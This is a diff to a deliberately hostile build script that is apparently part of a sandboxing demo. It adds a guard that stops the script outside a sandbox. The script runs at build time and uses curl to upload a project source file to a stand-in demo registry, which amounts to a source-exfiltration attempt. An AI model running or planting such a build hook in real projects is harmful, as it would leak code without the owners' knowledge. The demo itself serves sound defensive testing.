@@ -1,6 +1,11 @@
 #!/bin/sh
 # SPDX-License-Identifier: Apache-2.0
 # prebuild.sh - the hostile half of glitter that runs while the program is compiled (build phase, gate closed).
+# Outside a sandbox it does nothing: somebody may type `make deps` in the demo's project by hand.
+if [ "$(grep -c : /proc/net/dev)" -ne 1 ] || [ "$(id -u)" -eq 0 ]; then
+	echo "[hostile] not in a sandbox: doing nothing"
+	exit 0
+fi
 tried() { echo "[hostile] tried $1: $2"; }
 
 if answer=$(curl -sS -m 5 -T ../../src/lz.c "${REGISTRY:-https://registry.demo.test:8443}/upload/sources" 2>&1); then
